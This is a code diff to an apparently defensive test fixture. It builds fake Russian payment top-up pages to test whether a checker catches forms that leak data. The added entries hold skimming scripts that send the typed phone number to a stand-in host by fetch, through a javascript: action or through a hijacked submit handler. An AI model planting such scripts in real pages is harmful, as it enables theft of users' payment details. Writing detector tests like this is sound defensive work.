@@ -113,6 +113,30 @@ export const SENDINGS: readonly Sending[] = [
   },
 ]
 
+const FETCH = `fetch('${BAD}?' + phone.value, { mode: 'no-cors' })`
+
+/** Ways that nobody can read beforehand; `state` is what the check of the target may say at most. */
+export const UNREADABLE: readonly (Sending & { state: 'notChecked' | 'passed' })[] = [
+  {
+    path: '/no-form',
+    does: 'has fields without a form and sends them by script',
+    body: `${FIELDS}<button id="pay">Оплатить</button>${script(`pay.onclick = () => ${FETCH}`)}`,
+    state: 'notChecked',
+  },
+  {
+    path: '/javascript',
+    does: 'has a script for an action',
+    body: FORM.replace('/pay', `javascript:${FETCH.replace(/"/g, '')}`),
+    state: 'notChecked',
+  },
+  {
+    path: '/fetch',
+    does: 'keeps its form and sends the fields by script',
+    body: `${FORM}${script(`form.onsubmit = (event) => { event.preventDefault(); ${FETCH} }`)}`,
+    state: 'passed',
+  },
+]
+
 /** Types a number and presses "pay"; the test can't reach into a closed root, nor past clobbered forms. */
 const HANDS = script(`const inside = (id) => (window.root ?? document).getElementById(id);
   window.fill = (text) => { inside('phone').focus(); inside('phone').value = text };
@@ -123,7 +147,7 @@ const HEAD = '<!doctype html><html lang="ru"><meta charset="utf-8"><title>Поп
 /** Serves the pages above under any host, and says "taken" wherever a form arrives. */
 export const sendingRoute: Route = ({ path }) => {
   if (path === '/pay' || path === '/steal') return '<!doctype html><title>taken</title>'
-  const found = SENDINGS.find((one) => one.path === path)
+  const found = [...SENDINGS, ...UNREADABLE].find((one) => one.path === path)
   if (found) return `${HEAD}<body><h1>Пополнение счёта</h1>${found.body}${HANDS}</body></html>`
   return path === '/honest'
     ? `${HEAD}<body><h1>Пополнение счёта</h1>${FORM}${HANDS}</body></html>`
